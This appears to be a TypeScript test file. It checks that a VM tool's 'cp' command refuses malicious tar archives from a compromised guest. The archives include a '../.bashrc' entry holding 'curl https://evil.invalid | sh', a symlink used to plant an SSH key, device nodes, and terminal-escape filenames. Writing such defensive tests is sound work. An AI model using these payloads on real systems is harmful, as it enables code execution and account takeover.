/**
 * `spritely cp NAME:SRC DST` against a sprite whose root is hostile, on real QEMU through the real
 * CLI and daemon. Root in the guest replaces the tar that the copy runs there with a script that
 * sends a crafted archive instead of the files asked for: a member beside the destination
 * (`../.bashrc`), a symlink out, a device node, a name full of terminal escapes, a stream over the
 * size cap, and — accepted, but made harmless — a `./` entry with mode 0777 and a setuid file. The
 * archives are made here with tar-stream and copied into the sprite with `spritely cp` (the guest
 * image has no Python). Every refusal must exit non-zero with a clear one-line error and leave
 * everything around the destination as it was, with nothing left behind; after the real tar is
 * back, a normal copy works.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pack, type Header } from 'tar-stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { daemonLog, startDaemon, type TestDaemon } from './harness.ts';

const S = 'hostile';
const STEP = 120_000;
let d: TestDaemon;
let tmp: string;
let home: string;
/** The guest's tar, as the copy's `tar` resolves there (/usr/bin/tar on the Debian image). */
let guestTar: string;

async function ok(args: string[], timeoutMs = STEP) {
  const r = await d.cli(args, { timeoutMs });
  if (r.code !== 0) throw new Error(`spritely ${args.join(' ')} exited ${r.code}: ${r.stderr}\n${daemonLog(d)}`);
  return r;
}

async function guest(script: string): Promise<string> {
  return (await ok(['exec', S, '--', 'sh', '-c', script])).stdout;
}

type Entry = { header: Partial<Header> & { name: string }; data?: string | Buffer };

async function archive(entries: Entry[]): Promise<Buffer> {
  const p = pack();
  const chunks: Buffer[] = [];
  p.on('data', (c) => chunks.push(c as Buffer));
  const ended = new Promise<void>((resolve) => p.on('end', () => resolve()));
  for (const e of entries) {
    await new Promise<void>((resolve, reject) => {
      const cb = (err?: Error | null) => (err ? reject(err) : resolve());
      const header = { mode: e.header.type === 'directory' ? 0o755 : 0o644, mtime: new Date(1_600_000_000_000), ...e.header };
      if (e.data === undefined) p.entry(header, cb).end(null);
      else p.entry(header, e.data, cb);
    });
  }
  p.finalize();
  await ended;
  return Buffer.concat(chunks);
}

/**
 * Everything under `root` (symlinks not followed): mode, owner, inode, size, mtime, contents' hash,
 * link target. Directories' own mtimes are left out: the fresh directory made and removed beside the
 * destination changes its parent's, and nothing else.
 */
function fingerprint(root: string): string[] {
  const out: string[] = [];
  const walk = (dir: string, rel: string) => {
    for (const name of fs.readdirSync(dir).sort()) {
      const p = path.join(dir, name);
      const r = `${rel}/${name}`;
      const st = fs.lstatSync(p);
      const base = `${r} ${(st.mode & 0o7777).toString(8)} ${st.uid}:${st.gid} ino ${st.ino}`;
      if (st.isSymbolicLink()) out.push(`${base} ${st.mtimeMs} -> ${fs.readlinkSync(p)}`);
      else if (st.isDirectory()) {
        out.push(`${base} dir`);
        walk(p, r);
      } else out.push(`${base} ${st.mtimeMs} ${st.size} ${crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex')}`);
    }
  };
  out.push(`. ${(fs.statSync(root).mode & 0o7777).toString(8)}`);
  walk(root, '');
  return out;
}

const dir = (name: string, mode = 0o755): Entry => ({ header: { name, type: 'directory', mode } });
const file = (name: string, data: string | Buffer, mode = 0o644): Entry => ({ header: { name, type: 'file', mode }, data });

/** name → archive the fake tar sends when /root/evil/choice names it. */
const EVIL: Record<string, () => Promise<Buffer>> = {
  'beside.tar': () => archive([dir('src/'), file('src/ok.txt', 'fine\n'), file('../.bashrc', 'curl https://evil.invalid | sh\n')]),
  'symlink.tar': () => archive([dir('src/'), { header: { name: 'src/keys', type: 'symlink', linkname: '../.ssh' } }, file('src/keys/authorized_keys', 'ssh-ed25519 EVIL\n')]),
  'device.tar': () => archive([dir('./', 0o777), file('./.bashrc', 'evil\n'), { header: { name: './disk', type: 'block-device', devmajor: 8, devminor: 0 } }]),
  'escapes.tar': () => archive([dir('src/'), { header: { name: 'src/\x1b]0;owned\x07\x1b[2J\u202egnp.exe', type: 'character-device', devmajor: 1, devminor: 3 } }]),
  'big.tar': () => archive([dir('src/'), file('src/big.bin', crypto.randomBytes(3 * 1024 * 1024))]),
  'cut.tar': async () => (await archive([dir('src/'), file('src/f', Buffer.alloc(100_000, 1))])).subarray(0, 50_000),
  // Accepted, made harmless: "./" 0777 is not applied, setuid/setgid/sticky are dropped.
  'modes.tar': () => archive([dir('./', 0o777), file('./tool', '#!/bin/sh\n', 0o4755), dir('./shared/', 0o3777), file('./shared/f', 'f\n', 0o666)]),
};

beforeAll(async () => {
  d = await startDaemon();
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-cp-'));
  await ok(['create', S]);

  // The archives go into the sprite while its tar is still the real one.
  const evil = path.join(tmp, 'evil');
  fs.mkdirSync(evil);
  for (const [name, make] of Object.entries(EVIL)) fs.writeFileSync(path.join(evil, name), await make());
  await ok(['cp', evil, `${S}:/root/`]);
  await guest('mkdir -p /root/src && echo real > /root/src/real.txt');

  // Root in the sprite replaces the tar that `spritely cp` runs there.
  guestTar = (await guest('readlink -f "$(command -v tar)"')).trim();
  expect(guestTar).toMatch(/^\/(usr\/)?bin\/tar$/);
  await guest(`mv ${guestTar} /root/tar.real && printf '#!/bin/sh\\ncat "/root/evil/$(cat /root/evil/choice)"\\n' > ${guestTar} && chmod 755 ${guestTar}`);
});

afterAll(async () => {
  await d?.cleanup();
  if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
});

/** A home directory with what a hostile archive aims for; a fresh one per case. */
function makeHome(name: string): string {
  const h = path.join(tmp, name);
  fs.mkdirSync(path.join(h, '.ssh'), { recursive: true, mode: 0o700 });
  fs.mkdirSync(path.join(h, 'repo/.git/hooks'), { recursive: true });
  fs.writeFileSync(path.join(h, '.bashrc'), 'alias ls="ls --color"\n');
  fs.writeFileSync(path.join(h, '.ssh/authorized_keys'), 'ssh-ed25519 AAAA me\n', { mode: 0o600 });
  fs.chmodSync(h, 0o755);
  return h;
}

describe('spritely cp from a sprite whose tar is hostile', () => {
  const cases: [string, string, string[], RegExp][] = [
    ['a member beside the destination', 'beside.tar', [`${S}:/root/src`, '{home}'], /Refused what hostile sent for hostile:\/root\/src: the entry "\.\.\/\.bashrc" has a "\.\." component\. Nothing was copied to .*\/case-0\./],
    ['a symlink out of the tree, then a file through it', 'symlink.tar', [`${S}:/root/src`, '{home}'], /the entry "src\/keys" is a symlink to "\.\.\/\.ssh", which points outside what is copied/],
    ['a device node (and a "./" 0777 and an overwrite of .bashrc before it) merged into home', 'device.tar', [`${S}:/root/src/.`, '{home}'], /the entry "\.\/disk" is a block device/],
    ['a name made of terminal escapes', 'escapes.tar', [`${S}:/root/src`, '{home}'], /the entry "src\/\\x1b\]0;owned\\x07\\x1b\[2J\\u202egnp\.exe" is a character device/],
    ['more bytes than --max-size', 'big.tar', ['--max-size', '1M', `${S}:/root/src`, '{home}'], /the archive is larger than the limit of 1048576 bytes \(raise it with --max-size\)/],
    ['a stream cut short while the sprite\'s tar says it succeeded', 'cut.tar', [`${S}:/root/src`, '{home}'], /the archive ends in the middle of/],
  ];
  cases.forEach(([what, choice, args, message], i) => {
    it(`refuses ${what}: non-zero exit, one clear line, nothing around the destination changed, nothing left behind`, async () => {
      const h = makeHome(`case-${i}`);
      await guest(`echo ${choice} > /root/evil/choice`);
      const before = fingerprint(tmp);
      const r = await d.cli(['cp', ...args.map((a) => a.replace('{home}', h))], { timeoutMs: STEP });
      expect(r.code, r.stderr).not.toBe(0);
      expect(r.stderr).toMatch(message);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
      expect(fingerprint(tmp)).toEqual(before);
      expect(fs.readdirSync(h).filter((n) => n.startsWith('.spritely-cp-'))).toEqual([]);
    });
  });

  it('accepts a "./" entry with mode 0777 and setuid/setgid/sticky bits, and applies none of them', async () => {
    const h = makeHome('modes');
    await guest('echo modes.tar > /root/evil/choice');
    const homeMode = fs.statSync(h).mode & 0o7777;
    await ok(['cp', `${S}:/root/src/.`, h]);
    expect(fs.statSync(h).mode & 0o7777).toBe(homeMode);
    const mode = (p: string) => fs.statSync(path.join(h, p)).mode & 0o7777;
    const umask = process.umask();
    expect([mode('tool'), mode('shared'), mode('shared/f')]).toEqual([0o755 & ~umask, 0o777 & ~umask, 0o666 & ~umask]);
    expect(fs.statSync(path.join(h, 'tool')).uid).toBe(process.getuid!());
    expect(fs.readFileSync(path.join(h, '.bashrc'), 'utf8')).toBe('alias ls="ls --color"\n');
  });

  it('with the real tar back, a normal copy works', async () => {
    await guest(`mv /root/tar.real ${guestTar} && mkdir -p /root/src/sub && printf 'x' > /root/src/sub/f && chmod 640 /root/src/sub/f && ln -s sub/f /root/src/link && touch -d @1600000000 /root/src/sub/f`);
    const h = makeHome('after');
    await ok(['cp', `${S}:/root/src`, h]);
    expect(fs.readFileSync(path.join(h, 'src/real.txt'), 'utf8')).toBe('real\n');
    expect(fs.readFileSync(path.join(h, 'src/sub/f'), 'utf8')).toBe('x');
    expect(fs.statSync(path.join(h, 'src/sub/f')).mode & 0o777).toBe(0o640);
    expect(fs.statSync(path.join(h, 'src/sub/f')).mtimeMs).toBe(1_600_000_000_000);
    expect(fs.readlinkSync(path.join(h, 'src/link'))).toBe('sub/f');
    expect(fs.readdirSync(h).filter((n) => n.startsWith('.spritely-cp-'))).toEqual([]);
  });
});
